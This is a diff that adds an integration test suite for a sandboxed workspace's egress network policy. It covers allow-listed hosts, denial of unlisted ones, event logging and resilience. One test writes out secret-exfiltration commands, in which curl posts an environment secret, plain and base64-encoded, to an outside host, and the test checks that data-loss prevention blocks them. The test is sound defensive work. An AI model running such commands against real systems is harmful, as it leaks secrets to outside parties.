@@ -1,0 +1,147 @@
+import type { ServerResponse } from "node:http";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { DoorsInstallation } from "../helpers/doors.ts";
+import { Installation, eventually } from "../helpers/installation.ts";
+import { Outside } from "../helpers/outside.ts";
+
+const LISTED = "listed.example.test";
+const BELOW = "a.below.example.test";
+const UNLISTED = "unlisted.example.test";
+const SECRET = "sec-4f9d1c70b2e84ac6a5d39e6b";
+const CURL = "curl -sS --max-time 20";
+
+describe("a workspace with network policy egress", () => {
+  let at: DoorsInstallation;
+  let outside: Outside;
+  let id: string;
+
+  const run = async (command: string, more: object = {}) => {
+    const { exit_code, stdout, stderr } = await at.sdk.execWorkspace(id, { command, timeout_seconds: 60, ...more });
+    return { code: exit_code, out: stdout, all: stdout + stderr };
+  };
+  const works = async () =>
+    expect((await run(`${CURL} https://${LISTED}/works`)).all).toBe("upstream saw GET /works\n");
+
+  beforeAll(async () => {
+    at = new DoorsInstallation(new Installation("e"));
+    outside = await new Outside().open(at.at, [LISTED, BELOW, UNLISTED]);
+    const made = await at.sdk.createWorkspace({
+      backend: "container",
+      environment: "host",
+      network_policy: "egress",
+      allow_hosts: [LISTED, "*.below.example.test"],
+      secrets: [{ name: "NOTE", value: SECRET }],
+    });
+    id = made.workspace_id;
+    expect(made.network_policy).toBe("egress");
+  });
+
+  afterAll(async () => {
+    await at.sdk.close();
+    await at.at[Symbol.asyncDispose]();
+    await outside[Symbol.asyncDispose]();
+  });
+
+  it("reaches its hosts with ordinary tools, and no other", async () => {
+    await works();
+    expect((await run(`${CURL} http://${BELOW}/plain`)).all).toBe("upstream saw GET /plain\n");
+    const python = `import urllib.request; print(urllib.request.urlopen("https://${LISTED}/python").read().decode())`;
+    expect((await run(`python3 -c '${python}'`)).all).toContain("upstream saw GET /python");
+    const refused = await run(`${CURL} -i http://${UNLISTED}/page`);
+    expect(refused.out).toMatch(/^HTTP\/1\.1 403 /);
+    expect(refused.out).toContain('"code":"EGRESS_DENIED"');
+    expect((await run(`${CURL} https://${UNLISTED}/page`)).code).not.toBe(0);
+    expect(outside.asked.filter((to) => to.includes(UNLISTED))).toEqual([]);
+  });
+
+  it("G-41 lets none of its secrets out", async () => {
+    const secret_env = { NOTE: "NOTE" };
+    const sent = await run(`${CURL} -w '%{http_code}' https://${LISTED}/leak --data-binary "note=$NOTE"`, {
+      secret_env,
+    });
+    expect(sent.out).toMatch(/DLP_BLOCKED[^]*403$/);
+    const packed = await run(
+      `printf %s "$NOTE" | base64 | ${CURL} https://${LISTED}/leak -H "x-note: y" --data-binary @-`,
+      { secret_env },
+    );
+    expect(packed.out).toContain("DLP_BLOCKED");
+    expect(outside.upstream.seen.some(({ url }) => url === "/leak")).toBe(false);
+  });
+
+  it("tells of each request", async () => {
+    await run(`${CURL} "https://${LISTED}/told?token=not-told" -d abc`);
+    await eventually(async () => {
+      const told = (await at.events(id)).filter(({ kind }) => kind.startsWith("egress."));
+      expect(told.at(-1)).toMatchObject({
+        kind: "egress.request",
+        method: "POST",
+        host: LISTED,
+        port: 443,
+        path: "/told",
+        status: 200,
+        rule: LISTED,
+        bytes_sent: 3,
+        injected: false,
+      });
+      expect(told.some(({ kind }) => kind === "egress.denied")).toBe(true);
+      expect(JSON.stringify(told)).not.toMatch(new RegExp(`${SECRET}|not-told`));
+    });
+  });
+
+  it("works after a reset, a stop and a start, and in a fork", async () => {
+    await at.sdk.resetWorkspace(id);
+    await works();
+    await at.sdk.stopWorkspace(id);
+    await at.sdk.startWorkspace(id);
+    await works();
+    const fork = (await at.sdk.forkWorkspace(id)).workspace_id;
+    const { stdout } = await at.sdk.execWorkspace(fork, { command: `${CURL} https://${LISTED}/fork` });
+    expect(stdout).toBe("upstream saw GET /fork\n");
+    expect(at.gate(fork)?.gate).not.toBe(at.gate(id)?.gate);
+    await at.sdk.deleteWorkspace(fork);
+  });
+
+  it("works on while the daemon is dead, and after the gate or its keeper was killed", async () => {
+    outside.upstream.seen.length = 0;
+    const loop = `while :; do ${CURL} https://${LISTED}/again; sleep 0.2; done`;
+    await at.sdk.startService(id, "asks", { command: ["sh", "-c", loop] });
+    const isHeardFrom = async () => {
+      const before = outside.upstream.seen.length;
+      await eventually(() => expect(outside.upstream.seen.length).toBeGreaterThan(before + 1));
+    };
+    await isHeardFrom();
+    await at.killDaemon();
+    await isHeardFrom();
+    process.kill(at.gate(id)?.gate ?? 0, "SIGKILL");
+    await isHeardFrom(); // with the same certificate, and without a daemon
+    await works();
+    process.kill(at.gate(id)?.keeper ?? 0, "SIGKILL");
+    await eventually(works);
+    await at.sdk.stopService(id, "asks");
+  });
+
+  it("carries much, and gives what is streamed as it comes", async () => {
+    outside.upstream.handler = (request, response, body) => {
+      const to = response as ServerResponse;
+      if (request.url === "/size") to.end(String(body.length));
+      else to.end(Buffer.alloc(20_000_000, "x"));
+    };
+    expect((await run(`head -c 20000000 /dev/zero | ${CURL} -T - -X POST https://${LISTED}/size`)).out).toBe(
+      "20000000",
+    );
+    expect((await run(`${CURL} https://${LISTED}/much | wc -c`)).out.trim()).toBe("20000000");
+  });
+
+  it("is refused without hosts, and hosts without it", async () => {
+    const create = (more: object) => at.sdk.createWorkspace({ backend: "container", environment: "host", ...more });
+    await expect(create({ network_policy: "egress" })).rejects.toMatchObject({ code: "INVALID_ARGUMENT" });
+    await expect(create({ allow_hosts: [LISTED] })).rejects.toMatchObject({ code: "INVALID_ARGUMENT" });
+    await expect(create({ network_policy: "published-ports", allow_hosts: [LISTED] })).rejects.toMatchObject({
+      code: "INVALID_ARGUMENT",
+    });
+    for (const host of ["*.com", "127.0.0.1", "localhost", "a b"])
+      await expect(create({ network_policy: "egress", allow_hosts: [host] })).rejects.toMatchObject({
+        code: "INVALID_ARGUMENT",
+      });
+  });
+});
